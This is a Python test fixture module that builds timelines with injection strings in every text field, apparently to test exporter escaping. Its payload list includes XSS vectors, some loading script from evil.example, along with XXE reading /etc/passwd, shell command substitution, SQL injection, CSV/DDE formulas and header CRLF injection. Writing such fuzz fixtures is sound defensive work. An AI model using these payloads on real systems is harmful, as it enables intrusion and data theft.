"""Strings made to break out of wherever they are put, and timelines that have one in every field that takes text."""

from __future__ import annotations

from dataclasses import replace
from datetime import date
from itertools import product

from timeline.edtf import from_edtf
from timeline.exporters.options import Options
from timeline.model import Article, Entry, Event, Timeline, TimeValue, Written

PAYLOADS = (
    # Elements that run, load, move or cover.
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x></object>", "<embed src=//evil.example/x>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>", "<form action=//evil.example><input name=q></form>", "<template><b>x</b>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<plaintext>", "<xmp><b>", "<textarea><select>",
    "<a\nhref=javascript:alert(1)>y</a>", "<a href='data:text/html,<script>alert(1)</script>'>y</a>",
    # What ends an attribute, an element, a comment, a section.
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "x onmouseover=alert(1) y=",
    "\"><svg onload=alert(1)>", "'><svg onload=alert(1)>", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</textarea></noscript></template><img src=x onerror=alert(1)>", "</html><b>",
    "<!--", "-->", "--!><script>alert(1)</script>", "<!--><script>alert(1)</script>", "]]>", "<![CDATA[",
    "<?php echo 1",
    "<?xml version='1.0'?>", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>&b;", "<", "<" * 300, "</",
    # Entities.
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&amp;&bogus;&#0;&#xD800;",
    "&quot; onclick=alert(1)", "&", "&#x1F;",
    # Addresses.
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:x",
    " javascript:alert(1)", "&#106;avascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd", "//evil.example/x", "https:evil.example",
    "https://", "https://[", "http:\\\\evil.example", "https://user:pw@evil.example/]]>", "blob:https://a.example/1",
    "https://evil.example/\"onmouseover=\"alert(1)", "https://evil.example/'><script>alert(1)</script>",
    "https://evil.example/\r\nX-Header: 1", "https://evil.example/%0d%0aX-Header:%201", "https://evil.example/)[x](y",
    # Templates, formats, shells.
    "{{ 7 * 7 }}", "{% raw %}", "{# note #}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%00",
    "%s%n", "$(id)", "`id`", "'; DROP TABLE entries;--", "../../etc/passwd", "..\\..\\x", "CON", "nul.txt", "\\",
    "[x](javascript:alert(1))", "![x](https://evil.example/x.png)", "[x]: javascript:alert(1)\n[x]", "<javascript:x>",
    "*" * 50, "[" * 150, "`" * 60,
    # Calendars, tables, headers.
    "END:VCALENDAR", "\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nTRIGGER:-PT15M\r\n", "\nATTACH:https://evil.example/x",
    "\\n\\;\\,\\\\", ";,:\"\\", "\r\nSet-Cookie: a=1", "=HYPERLINK(\"https://evil.example\",\"x\")", "=1+1", "+1", "-1",
    "@SUM(1)", "\t=1", "\r=1", "\n=1", "'=1", "\"=1", "＝1+1", "=cmd|' /C calc'!A0", "\"\"\"", "a,b;c\td", "sep=;",
    # Characters.
    "\u202egnp.exe\u202c", "\u2066\u2067\u2068", "\u200f\u061cעברית", "مرحبا <b>", "\u2028</script>\u2029", "\ufeffbom",
    "\u200b\u2060\u00ad", "\ud800", "\udfff\ud800", "\x00", "a\x00b<b>", "\x0b\x0c\x1b[31m", "\x7f\x85", "\ufffe\uffff",
    "\U0010ffff", "\U000e0001\U000e0041", "e" + "\u0301" * 300, "😀" * 60, "👩‍👩‍👧‍👦🏳️‍🌈", "🇺🇳" * 9, "ﷺ" * 30,
    "ß" * 60, "İı",
    "a" * 10_000, "a " * 2_000, "", " ", "\n\n", "\u00a0", "null", "undefined", "NaN", "__proto__", "constructor", "-0",
    "true", "1e999", "0",
)
STRINGS = tuple(dict.fromkeys([
    *PAYLOADS,
    *(shape.replace("{}", payload) for shape, payload in product(
        ("x{}", "https://a.example/{}", "# {}\n\n> {}"), (each for each in PAYLOADS if 0 < len(each) < 200))),
]))
"""More than 500: each by itself, behind a word, in an address and as Markdown."""
TAME = "Plain words"
"""A string that breaks out of nothing."""


def timeline_of(texts: tuple[str, ...]) -> Timeline:
    """Three entries for each text, with it in every field: told by articles, written by hand, waiting for review."""
    told = [_told(n, text) for n, text in enumerate(texts)]
    return Timeline(tuple(entry for entries, _ in told for entry in entries), tuple(waiting for _, waiting in told))


def options_of(text: str, **more: object) -> Options:
    """Options with the text in all that a site says of itself."""
    return Options(**{"title": text, "description": text, "base_url": text, "language": text, **more})


def _told(n: int, text: str) -> tuple[tuple[Entry, ...], Event]:
    id, day = f"{n}-{text}", from_edtf(f"{2000 + n % 20}-{n % 12 + 1:02d}-{n % 28 + 1:02d}")
    source = Article(text, date(2016, 4, 20), text, id, text, text, text, text, (text,), text, text)
    value = TimeValue(1, 2, text[1:2], "DATE", text, None, text, None, text, text, text)
    event = Event(id, text, text, 0, len(text), day, text, text, text, text, 1.0, value, source, text)
    other = replace(event, id=f"{id}2", interval=from_edtf("2016-04~"))
    entries = (Entry(id, text, day, text, 0.5, (event, other), text, text, (text,)),
               Entry(f"{id}3", text, day, text, 0.4, (), note=text, written=(Written(f"{id}3", text, text, text),)))
    return entries, replace(event, id=f"{id}4", interval=None)
